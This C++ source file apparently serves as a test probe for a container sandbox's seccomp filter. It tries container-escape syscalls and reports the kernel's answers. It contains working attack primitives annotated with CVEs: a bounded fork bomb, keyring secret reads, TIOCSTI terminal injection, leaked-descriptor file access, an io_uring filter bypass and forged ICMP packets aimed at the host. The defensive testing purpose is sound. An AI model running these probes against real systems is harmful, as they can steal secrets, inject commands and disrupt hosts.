// The attacks that only step 08 stops. A comment at each one says how it works.
//
//   usage   probe-08-all [ATTACK [ARG]]
//
// Without an ATTACK, the probe tries system calls by which processes have left
// containers or attacked hosts. It prints what the kernel answered, which is
// "ok", an errno, or a signal. Without a filter, most of the calls succeed, or
// fail with another errno than the filter gives.

#include <arpa/inet.h>
#include <ifaddrs.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

// In most versions of the kernel, this header needs sys/socket.h before it.
#include <linux/vm_sockets.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>

#include "steps/probe.hpp"

namespace {

// ---- Attacks ----------------------------------------------------------------

// A program finds System V memory by a number, and not by a path.
probe::Answer shm(const std::string& key) {
  const auto number = static_cast<key_t>(std::stoi(key));
  const auto what = "get the segment " + key;
  int id = ::shmget(number, 0, 0);
  if (id == -1) {
    if (errno != ENOENT) return probe::refused(what);
    id = ::shmget(number, 4096, IPC_CREAT | 0600);
    if (id == -1) return probe::refused(what + ": ENOENT; make it");
    ::shmctl(id, IPC_RMID, nullptr);
    return probe::done(what + ": ENOENT; the key is free to make its own");
  }
  const void* const text = ::shmat(id, nullptr, SHM_RDONLY);
  // NOLINTNEXTLINE: shmat(2) returns a number where there is no pointer.
  if (text == reinterpret_cast<void*>(-1)) return probe::refused("attach it");
  return probe::done(what + ": " + static_cast<const char*>(text));
}

// A fork bomb with a limit. A real one uses up the PIDs of the host.
probe::Answer fork(const std::string& most) {
  for (int i = 0; i < std::stoi(most); ++i) {
    const pid_t child = ::fork();
    if (child == -1) return probe::refused("fork child " + std::to_string(i));
    if (child != 0) continue;
    (void)::prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;) ::pause();
  }
  return probe::done("have " + most + " children");
}

// The keyring of a login session can contain tickets and passphrases of the
// user. A child inherits it, and no namespace separates it.
probe::Answer key(const std::string& name) {
  const auto what = "search its session's keyring for " + name;
  const auto id = ::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
                            "user", name.c_str(), 0);
  if (id == -1 && errno == ENOKEY)
    return probe::done(what + ": ENOKEY; the keyring is its own");
  if (id == -1) return probe::refused(what);
  std::array<char, 256> text{};
  if (::syscall(SYS_keyctl, KEYCTL_READ, id, text.data(), text.size() - 1) ==
      -1)
    return probe::refused("read it");
  return probe::done(what + ": " + text.data());
}

// The caller's shell reads the inserted characters when the probe has ended, as
// if the caller had typed them: CVE-2017-5226.
probe::Answer tiocsti(const std::string& text) {
  const auto what = "type " + text + " into the terminal";
  for (const char c : text + "\n")
    if (::ioctl(STDIN_FILENO, TIOCSTI, &c) == -1) return probe::refused(what);
  return probe::done(what);
}

// The program that started the probe might have left a directory open. A new
// root directory does not close it: CVE-2016-9962, CVE-2024-21626.
probe::Answer descriptor(const std::string& name) {
  for (int fd = STDERR_FILENO + 1; fd < 1024; ++fd) {
    const int file = ::openat(fd, name.c_str(), O_RDONLY | O_CLOEXEC);
    if (file == -1) continue;
    return probe::done("open " + name + " below descriptor " +
                       std::to_string(fd) + ": " + probe::first_line(file));
  }
  return probe::refused("open " + name + " below descriptors 3 to 1023");
}

// In a new user namespace, a process has all capabilities. So it reaches parts
// of the kernel that were written for root only: CVE-2022-0185.
probe::Answer userns(const std::string& /*unused*/) {
  if (::unshare(CLONE_NEWUSER) == -1)
    return probe::refused("make a user namespace");
  return probe::done("make a user namespace");
}

// The kernel carries out what a process writes into a ring, which is memory
// that both share. A filter sees the calls that make the ring and wake the
// kernel. It does not see what is in the ring.
probe::Answer ring(const std::string& name) {
  io_uring_params offsets{};
  const auto fd = static_cast<int>(::syscall(SYS_io_uring_setup, 1, &offsets));
  if (fd == -1) return probe::refused("io_uring_setup(2)");
  const auto map = [fd](off_t part) {
    return static_cast<char*>(
        ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, part));
  };
  char* const shared = map(IORING_OFF_SQ_RING);
  auto* const request = reinterpret_cast<io_uring_sqe*>(map(IORING_OFF_SQES));
  request->opcode = IORING_OP_OPENAT;
  request->fd = AT_FDCWD;
  request->addr = reinterpret_cast<__u64>(name.c_str());
  request->open_flags = O_RDONLY | O_CLOEXEC;
  *reinterpret_cast<unsigned*>(shared + offsets.sq_off.tail) = 1;
  if (::syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, nullptr,
                0) == -1)
    return probe::refused("io_uring_enter(2)");
  const auto file =
      reinterpret_cast<io_uring_cqe*>(shared + offsets.cq_off.cqes)->res;
  errno = -file;
  if (file < 0) return probe::refused("open " + name + " by a ring");
  return probe::done("open " + name + " by a ring: " + probe::first_line(file));
}

// See RFC 1071.
std::uint16_t checksum(const void* bytes, std::size_t size) {
  std::uint32_t sum = 0;
  for (std::size_t at = 0; at < size; at += sizeof(std::uint16_t)) {
    std::uint16_t word = 0;
    std::memcpy(&word, static_cast<const char*>(bytes) + at, sizeof word);
    sum += word;
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// The host's end of the cable. Where there is no cable, this network is the
// host's.
sockaddr_in other_end() {
  sockaddr_in end{};
  end.sin_family = AF_INET;
  end.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ifaddrs* all = nullptr;
  if (::getifaddrs(&all) == -1) return end;
  for (const auto* one = all; one != nullptr; one = one->ifa_next)
    if (std::string{one->ifa_name} == "eth0" && one->ifa_dstaddr != nullptr &&
        one->ifa_dstaddr->sa_family == AF_INET)
      std::memcpy(&end, one->ifa_dstaddr, sizeof end);
  ::freeifaddrs(all);
  return end;
}

// kill(2) with the PID 0 signals the process group, also its members outside
// the PID namespace. Most processes ignore this signal.
probe::Answer group(const std::string& /*unused*/) {
  if (::kill(0, SIGURG) == -1)
    return probe::refused("send SIGURG to its process group");
  return probe::done("send SIGURG to its process group");
}

// The host believes an ICMP message from any machine that a packet was too big
// for the way to ADDRESS, also if it never sent that packet. For ten minutes it
// then sends only small ones there. Through a raw socket anyone who has
// CAP_NET_RAW in this network can write such a message.
probe::Answer mtu(const std::string& address) {
  struct {  // The message, and the packet that it is about: an echo reply.
    icmphdr head{};
    iphdr packet{};
    icmphdr reply{};
  } forged;
  forged.head.type = ICMP_DEST_UNREACH;
  forged.head.code = ICMP_FRAG_NEEDED;
  forged.head.un.frag.mtu = htons(600);
  forged.packet.version = 4;
  forged.packet.ihl = sizeof forged.packet / 4;
  forged.packet.tot_len = htons(1500);
  forged.packet.protocol = IPPROTO_ICMP;
  forged.packet.daddr = ::inet_addr(address.c_str());
  forged.head.checksum = checksum(&forged, sizeof forged);
  const auto what = "send the host an ICMP message about " + address;
  const int raw = ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  const auto host = other_end();
  const void* const any = &host;
  if (raw == -1 ||
      ::sendto(raw, &forged, sizeof forged, 0,
               static_cast<const sockaddr*>(any), sizeof host) == -1)
    return probe::refused(what);
  return probe::done(what);
}

// ---- System calls -----------------------------------------------------------

constexpr unsigned long long kHighBit = 1ULL << 32;  // The kernel ignores it.

long make_namespace_by_clone3() {
  clone_args args{};
  args.flags = CLONE_NEWUSER;
  args.exit_signal = SIGCHLD;
  return ::syscall(SYS_clone3, &args, sizeof args);
}

long make_io_ring() {
  io_uring_params parameters{};
  return ::syscall(SYS_io_uring_setup, 1, &parameters);
}

long use_32_bit_entry() {
#ifdef __x86_64__
  long result = 20;  // The number of getpid for 32-bit programs.
  asm volatile("int $0x80"
               : "+a"(result)
               :
               : "memory", "r8", "r9", "r10", "r11");
  if (result >= 0) return result;
  errno = static_cast<int>(-result);
  return -1;
#else
  errno = ENOSYS;  // This machine has no such instruction.
  return -1;
#endif
}

struct Attempt {
  const char* name;
  long (*make)();
};

// clang-format off
const auto kAttempts = std::to_array<Attempt>({
    // In a new user namespace, the process would have all capabilities again.
    {"unshare", [] { return long{::unshare(CLONE_NEWUSER)}; }},
    {"clone", [] { return ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0); }},
    {"clone high", [] { return ::syscall(SYS_clone, kHighBit | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0); }},
    {"clone3", make_namespace_by_clone3},
    {"setns", [] { return long{::setns(-1, 0)}; }},
    // Old and new calls for mounts.
    {"mount", [] { return long{::mount("none", "/tmp", "tmpfs", 0, nullptr)}; }},
    {"umount2", [] { return long{::umount2("/no/such", 0)}; }},
    {"pivot_root", [] { return ::syscall(SYS_pivot_root, "/no", "/no"); }},
    {"open_tree", [] { return ::syscall(SYS_open_tree, -100, "/", 0); }},
    {"move_mount", [] { return ::syscall(SYS_move_mount, -1, "", -1, "", 0); }},
    {"fsopen", [] { return ::syscall(SYS_fsopen, "tmpfs", 0); }},
    {"mount_setattr", [] { return ::syscall(SYS_mount_setattr, -1, "", 0, nullptr, 0); }},
    // By this call, a process left the first Docker: it opens a file of the host by a number.
    {"open_by_handle_at", [] { return ::syscall(SYS_open_by_handle_at, -1, nullptr, 0); }},
    // These parts of the kernel have had many bugs.
    {"bpf", [] { return ::syscall(SYS_bpf, BPF_MAP_CREATE, nullptr, 0); }},
    {"io_uring_setup", make_io_ring},
    {"userfaultfd", [] { return ::syscall(SYS_userfaultfd, UFFD_USER_MODE_ONLY); }},
    {"perf_event_open", [] { return ::syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0); }},
    {"keyctl", [] { return ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1); }},
    {"add_key", [] { return ::syscall(SYS_add_key, "user", "box", "x", 1, KEY_SPEC_PROCESS_KEYRING); }},
    {"kexec_load", [] { return ::syscall(SYS_kexec_load, 0, 0, nullptr, ~0UL); }},
    {"init_module", [] { return ::syscall(SYS_init_module, nullptr, 0, nullptr); }},
    {"fanotify_init", [] { return ::syscall(SYS_fanotify_init, ~0U, 0); }},
    {"kcmp", [] { return ::syscall(SYS_kcmp, ::getpid(), ::getpid(), 99, 0, 0); }},
    {"personality", [] { return long{::personality(ADDR_COMPAT_LAYOUT)}; }},
    // Sockets that no network namespace separates, and sockets for the kernel's cryptography.
    {"AF_VSOCK", [] { return long{::socket(AF_VSOCK, SOCK_STREAM, 0)}; }},
    {"AF_ALG", [] { return long{::socket(AF_ALG, SOCK_SEQPACKET, 0)}; }},
    // A process can write any packet into a raw socket.
    {"raw socket", [] { return long{::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)}; }},
    // Sockets whose memory no cgroup counts, and protocols for which the kernel loads a module.
    {"AF_PACKET", [] { return long{::socket(AF_PACKET, SOCK_DGRAM, 0)}; }},
    {"netfilter", [] { return long{::socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER)}; }},
    {"user netlink", [] { return long{::socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK)}; }},
    {"SCTP", [] { return long{::socket(AF_INET, SOCK_SEQPACKET, 0)}; }},
    {"UDP lite", [] { return long{::socket(AF_INET6, SOCK_DGRAM, IPPROTO_UDPLITE)}; }},
    // Characters inserted into a terminal.
    {"TIOCSTI", [] { return ::syscall(SYS_ioctl, 0, TIOCSTI, "x"); }},
    {"TIOCSTI high", [] { return ::syscall(SYS_ioctl, 0, kHighBit | TIOCSTI, "x"); }},
    {"TIOCLINUX", [] { return ::syscall(SYS_ioctl, 0, TIOCLINUX, "\2"); }},
    // Calls by other numbers.
    {"x32", [] { return ::syscall(0x40000000 + SYS_getpid); }},
    {"int 0x80", use_32_bit_entry},
    // PID 1 runs a program of the host.
    {"ptrace 1", [] { return ::ptrace(PTRACE_SEIZE, 1, nullptr, nullptr); }},
});
// clang-format on

// The errnos that a filter gives have names here.
void print_errno(const char* name, int errnum) {
  switch (errnum) {
    case 0:
      std::printf("%s: ok\n", name);
      break;
    case EPERM:
      std::printf("%s: EPERM\n", name);
      break;
    case ENOSYS:
      std::printf("%s: ENOSYS\n", name);
      break;
    case EAFNOSUPPORT:
      std::printf("%s: EAFNOSUPPORT\n", name);
      break;
    case EPROTONOSUPPORT:
      std::printf("%s: EPROTONOSUPPORT\n", name);
      break;
    case ESOCKTNOSUPPORT:
      std::printf("%s: ESOCKTNOSUPPORT\n", name);
      break;
    default:
      std::printf("%s: errno %d\n", name, errnum);
  }
}

// Makes the call in a child, because some calls change the process, and one
// kills it.
void make(const Attempt& attempt) {
  const pid_t child = ::fork();
  if (child == 0) {
    const long result = attempt.make();
    ::_exit(result == -1 ? errno : 0);
  }
  int status = 0;
  if (child == -1 || ::waitpid(child, &status, 0) == -1)
    std::printf("%s: not tried\n", attempt.name);
  else if (!WIFSIGNALED(status))
    print_errno(attempt.name, WEXITSTATUS(status));
  else if (WTERMSIG(status) == SIGSYS)
    std::printf("%s: SIGSYS\n", attempt.name);
  else
    std::printf("%s: signal %d\n", attempt.name, WTERMSIG(status));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 1)
    return probe::run(argc, argv,
                      {{"shm", shm},
                       {"fork", fork},
                       {"key", key},
                       {"tiocsti", tiocsti},
                       {"descriptor", descriptor},
                       {"userns", userns},
                       {"ring", ring},
                       {"group", group},
                       {"mtu", mtu}});
  std::setvbuf(stdout, nullptr, _IONBF, 0);  // A child would print it again.
  for (const auto& attempt : kAttempts) make(attempt);
}
